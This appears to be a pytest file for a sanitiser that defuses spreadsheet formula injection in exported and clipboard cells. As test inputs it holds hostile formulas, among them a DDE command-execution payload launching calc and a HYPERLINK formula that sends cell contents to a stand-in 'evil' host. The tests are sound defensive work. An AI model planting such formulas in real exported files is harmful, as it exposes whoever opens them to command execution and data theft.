"""No text that is written for a spreadsheet is computed by one."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.domain.spreadsheet_cells import inert, inert_line

HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@sum",
    "\tx",
    "\rx",
    "\nx",
    "\x00",
    "＝1+1",
    "－1",
    "\x7fx",
    " =1+1",
    "\u200b=1+1",
    "\ufeff@sum",
    "\xa0\u2003+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"click")',
)


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_a_spreadsheet_would_compute_is_text(cell: str) -> None:
    assert str(inert(cell)).startswith(f"'{cell[:1]}")


@pytest.mark.parametrize("cell", ["", "Robbery", "1+1", "–", "…", "'=1", "a; b", "2-3", -3, 0, -0.5, None])
def test_what_it_would_not_stays(cell: str | float | None) -> None:
    assert inert(cell) is cell or inert(cell) == cell


@pytest.mark.parametrize("separator", [";", "\t", "|", "; ", "\n", "\r\n"])
def test_no_other_separator_begins_a_formula_inside_a_cell(separator: str) -> None:
    """Spreadsheets of half of Europe take the semicolon."""
    for sign in "=+-@":
        cell = inert(f"Smith{separator}{sign}1+1")
        assert cell == f"Smith{separator}'{sign}1+1"


@given(st.text(max_size=20))
def test_text_is_only_added_to(text: str) -> None:
    made = str(inert(text))
    assert made.replace("'", "") == text.replace("'", "")
    assert inert(made) == made


@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.floats(allow_nan=False)), max_size=5))
def test_a_file_has_no_formula_whatever_separates_its_cells(cells: list[str | float]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerow([inert(cell) for cell in cells])
    for delimiter in ",;\t":
        for line in csv.reader(io.StringIO(text.getvalue(), newline=""), delimiter=delimiter):
            for cell in line:
                # Of numbers, the sign is not a formula's.
                if not any(cell.startswith(str(value)) for value in cells if not isinstance(value, str)):
                    assert cell.lstrip()[:1] not in ("=", "+", "-", "@")


def test_a_line_for_the_clipboard_has_its_cells_and_no_more() -> None:
    assert inert_line(("=1", "a\tb\nc", -3, "", 0.5)) == "'=1\ta b c\t-3\t\t0.5"
